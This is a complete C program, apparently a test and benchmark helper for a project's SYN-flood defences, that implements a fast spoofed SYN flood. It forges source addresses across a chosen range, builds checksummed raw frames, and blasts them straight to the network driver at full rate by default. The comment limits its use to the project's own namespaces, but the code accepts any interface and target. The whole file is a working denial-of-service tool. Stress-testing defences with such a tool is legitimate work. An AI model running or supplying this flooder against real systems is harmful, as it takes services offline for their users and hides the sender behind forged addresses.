/* tests/attack/synflood.c: a cheap spoofed SYN flood for the bench and
 * the attack tests, inside their own namespaces only. The frames are
 * built once (one source address each, checksums done) and sent straight
 * to the interface's driver in batches (AF_PACKET, PACKET_QDISC_BYPASS,
 * sendmmsg), paced by one absolute sleep a batch: a few hundred wake-ups
 * a second where hping3 has one a packet, so the flooder's own CPU, which
 * a real attacker's would not share with the box, weighs little
 * (docs/performance.md, "Under a SYN flood").
 *
 *   synflood -i IFACE -m DSTMAC -d DST -p PORT[,PORT...] [-s NET/LEN]
 *            [-r PPS] [-b BATCH] [-n SOURCES] [-c COUNT] [-t SECONDS]
 *
 *   -r 0 (the default) sends as fast as it can. Until COUNT packets, the
 *   time or SIGTERM; then prints "sent N in S s: R/s" on stdout.
 *
 *   IFACE ─ [eth | ip src NET+i dst DST | tcp SYN sport i dport PORT] ─ wire
 */
#include <errno.h>
#include <getopt.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <linux/if_packet.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#define SF_FRAME (sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct tcphdr))
#define SF_PORTS_MAX 16
#define SF_BATCH_MAX 1024
#define SF_SOURCES_MAX 65536

static volatile sig_atomic_t stop;

struct sf_opts {
	const char *ifname;
	uint8_t dmac[ETH_ALEN];
	struct in_addr dst, net;
	uint32_t hostmask;		/* the source range's host bits */
	uint16_t ports[SF_PORTS_MAX];
	unsigned nports, batch, sources;
	unsigned long rate, count;
	double secs;
};

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static uint32_t sf_rand(uint32_t *s)	/* xorshift32: reproducible frames */
{
	*s ^= *s << 13;
	*s ^= *s >> 17;
	*s ^= *s << 5;
	return *s;
}

static uint16_t sf_csum(uint32_t sum, const void *p, size_t len)
{
	const uint8_t *b = p;

	for (; len > 1; b += 2, len -= 2)
		sum += (uint32_t)b[0] << 8 | b[1];
	if (len)
		sum += (uint32_t)b[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* Frame i: source NET + a random host, random port and sequence, a SYN
 * to the i-th port of the list, as hping3 -S sends it (no options). */
static void sf_build(uint8_t *f, const struct sf_opts *o, const uint8_t *smac,
		     unsigned i, uint32_t *seed)
{
	struct ether_header *eh = (struct ether_header *)f;
	struct iphdr *ip = (struct iphdr *)(eh + 1);
	struct tcphdr *th = (struct tcphdr *)(ip + 1);
	uint32_t host = sf_rand(seed) & o->hostmask, sum;

	memset(f, 0, SF_FRAME);
	memcpy(eh->ether_dhost, o->dmac, ETH_ALEN);
	memcpy(eh->ether_shost, smac, ETH_ALEN);
	eh->ether_type = htons(ETHERTYPE_IP);
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons(sizeof(*ip) + sizeof(*th));
	ip->id = (uint16_t)sf_rand(seed);
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	ip->saddr = htonl(ntohl(o->net.s_addr) | (host ? host : 1));
	ip->daddr = o->dst.s_addr;
	ip->check = sf_csum(0, ip, sizeof(*ip));
	th->source = htons((uint16_t)(1024 + sf_rand(seed) % 64512));
	th->dest = htons(o->ports[i % o->nports]);
	th->seq = sf_rand(seed);
	th->doff = 5;
	th->syn = 1;
	th->window = htons(64);
	/* pseudo-header: addresses, protocol, TCP length */
	sum = (ntohl(ip->saddr) >> 16) + (ntohl(ip->saddr) & 0xffff) +
	      (ntohl(ip->daddr) >> 16) + (ntohl(ip->daddr) & 0xffff) +
	      IPPROTO_TCP + sizeof(*th);
	th->check = sf_csum(sum, th, sizeof(*th));
}

static int sf_socket(const char *ifname, uint8_t *smac)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET };
	struct ifreq ifr = { 0 };
	int fd, one = 1, err;

	fd = socket(AF_PACKET, SOCK_RAW, 0);	/* protocol 0: sends, never receives */
	if (fd < 0)
		return -errno;
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0)
		goto out_errno;
	memcpy(smac, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
	sll.sll_ifindex = (int)if_nametoindex(ifname);
	if (!sll.sll_ifindex || bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0)
		goto out_errno;
	/* straight to the driver: no qdisc, as a NIC's ring would take it */
	if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) < 0)
		goto out_errno;
	return fd;
out_errno:
	err = errno ? -errno : -ENODEV;
	close(fd);
	return err;
}

static int sf_mac(const char *s, uint8_t *mac)
{
	unsigned v[ETH_ALEN];
	char end;
	int i;

	if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5], &end) != 6)
		return -EINVAL;
	for (i = 0; i < ETH_ALEN; i++) {
		if (v[i] > 0xff)
			return -EINVAL;
		mac[i] = (uint8_t)v[i];
	}
	return 0;
}

static int sf_net(const char *s, struct sf_opts *o)
{
	char buf[32], *slash, *end;
	unsigned long len;

	snprintf(buf, sizeof(buf), "%s", s);
	slash = strchr(buf, '/');
	if (!slash)
		return -EINVAL;
	*slash = 0;
	len = strtoul(slash + 1, &end, 10);
	if (*end || len < 8 || len > 30 || inet_pton(AF_INET, buf, &o->net) != 1)
		return -EINVAL;
	o->hostmask = (1u << (32 - len)) - 1;
	o->net.s_addr &= htonl(~o->hostmask);
	return 0;
}

static int sf_ports(char *s, struct sf_opts *o)
{
	char *tok, *end;
	unsigned long p;

	for (tok = strtok(s, ","); tok; tok = strtok(NULL, ",")) {
		p = strtoul(tok, &end, 10);
		if (*end || !p || p > 65535 || o->nports == SF_PORTS_MAX)
			return -EINVAL;
		o->ports[o->nports++] = (uint16_t)p;
	}
	return o->nports ? 0 : -EINVAL;
}

static int sf_args(int argc, char **argv, struct sf_opts *o)
{
	int c, err = 0, mac = 0;
	char *end = NULL;

	while ((c = getopt(argc, argv, "i:m:d:p:s:r:b:n:c:t:")) != -1 && !err) {
		switch (c) {
		case 'i': o->ifname = optarg; break;
		case 'm': err = sf_mac(optarg, o->dmac); mac = 1; break;
		case 'd': err = inet_pton(AF_INET, optarg, &o->dst) == 1 ? 0 : -EINVAL; break;
		case 'p': err = sf_ports(optarg, o); break;
		case 's': err = sf_net(optarg, o); break;
		case 'r': o->rate = strtoul(optarg, &end, 10); break;
		case 'b': o->batch = (unsigned)strtoul(optarg, &end, 10); break;
		case 'n': o->sources = (unsigned)strtoul(optarg, &end, 10); break;
		case 'c': o->count = strtoul(optarg, &end, 10); break;
		case 't': o->secs = strtod(optarg, &end); break;
		default: err = -EINVAL;
		}
		if (end && *end)
			err = -EINVAL;
		end = NULL;
	}
	if (err || optind != argc || !o->ifname || !mac || !o->dst.s_addr || !o->nports ||
	    !o->batch || o->batch > SF_BATCH_MAX || !o->sources || o->sources > SF_SOURCES_MAX)
		return -EINVAL;
	return 0;
}

static double sf_now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void sf_add_ns(struct timespec *t, uint64_t ns)
{
	ns += (uint64_t)t->tv_nsec;
	t->tv_sec += (time_t)(ns / 1000000000u);
	t->tv_nsec = (long)(ns % 1000000000u);
}

/* The frames, each source once, sent round and round; one sleep a batch. */
static int sf_run(const struct sf_opts *o, int fd, struct mmsghdr *msgs, unsigned n,
		  unsigned long *sent)
{
	uint64_t step = o->rate ? (uint64_t)o->batch * 1000000000u / o->rate : 0;
	double t_end = o->secs > 0 ? sf_now() + o->secs : 0;
	struct timespec next, now;
	unsigned k = 0, want;
	int r;

	clock_gettime(CLOCK_MONOTONIC, &next);
	while (!stop && (!o->count || *sent < o->count) && (!t_end || sf_now() < t_end)) {
		want = o->batch;
		if (o->count && o->count - *sent < want)
			want = (unsigned)(o->count - *sent);
		if (want > n - k)
			want = n - k;
		r = sendmmsg(fd, &msgs[k], want, 0);
		if (r < 0) {
			if (errno == EINTR)
				continue;
			if (errno != ENOBUFS && errno != EAGAIN)
				return -errno;
			r = 0;	/* the driver is full: as a wire would, lose them */
		}
		*sent += (unsigned)r;
		k = (k + want) % n;
		if (!step)
			continue;
		sf_add_ns(&next, step);
		/* a second behind (the machine was busy): no burst to catch up */
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec > next.tv_sec + 1)
			next = now;
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
	return 0;
}

struct sf_frames {
	uint8_t *bytes;
	struct iovec *iov;
	struct mmsghdr *msgs;
	unsigned n;
};

static void sf_frames_free(struct sf_frames *fr)
{
	free(fr->msgs);
	free(fr->iov);
	free(fr->bytes);
}

/* A whole number of batches, and every port as often as the others. */
static int sf_frames_build(struct sf_frames *fr, const struct sf_opts *o, const uint8_t *smac)
{
	uint32_t seed = 0x5ca77a11;
	unsigned i;

	fr->n = (o->sources + o->batch - 1) / o->batch * o->batch * o->nports;
	fr->bytes = malloc((size_t)fr->n * SF_FRAME);
	fr->iov = calloc(fr->n, sizeof(*fr->iov));
	fr->msgs = calloc(fr->n, sizeof(*fr->msgs));
	if (!fr->bytes || !fr->iov || !fr->msgs)
		return -ENOMEM;
	for (i = 0; i < fr->n; i++) {
		sf_build(fr->bytes + (size_t)i * SF_FRAME, o, smac, i, &seed);
		fr->iov[i] = (struct iovec){ fr->bytes + (size_t)i * SF_FRAME, SF_FRAME };
		fr->msgs[i].msg_hdr.msg_iov = &fr->iov[i];
		fr->msgs[i].msg_hdr.msg_iovlen = 1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct sf_opts o = { .batch = 32, .sources = 4096 };
	struct sf_frames fr = { 0 };
	uint8_t smac[ETH_ALEN];
	unsigned long sent = 0;
	double t0;
	int fd, err;

	inet_pton(AF_INET, "10.77.128.0", &o.net);
	o.hostmask = 0x7fff;
	if (sf_args(argc, argv, &o) < 0) {
		fprintf(stderr, "usage: synflood -i IFACE -m DSTMAC -d DST -p PORT[,PORT...] "
			"[-s NET/LEN (10.77.128.0/17)] [-r PPS (0: full rate)] [-b BATCH (32)] "
			"[-n SOURCES (4096 a port)] [-c COUNT] [-t SECONDS]\n");
		return 2;
	}
	fd = sf_socket(o.ifname, smac);
	if (fd < 0) {
		fprintf(stderr, "synflood: %s: %s\n", o.ifname, strerror(-fd));
		return 1;
	}
	err = sf_frames_build(&fr, &o, smac);
	if (err)
		goto out;
	signal(SIGTERM, on_term);
	signal(SIGINT, on_term);
	t0 = sf_now();
	err = sf_run(&o, fd, fr.msgs, fr.n, &sent);
	t0 = sf_now() - t0;
	printf("sent %lu in %.2f s: %.0f/s\n", sent, t0, t0 > 0 ? (double)sent / t0 : 0);
out:
	if (err)
		fprintf(stderr, "synflood: %s\n", strerror(-err));
	sf_frames_free(&fr);
	close(fd);
	return err ? 1 : 0;
}
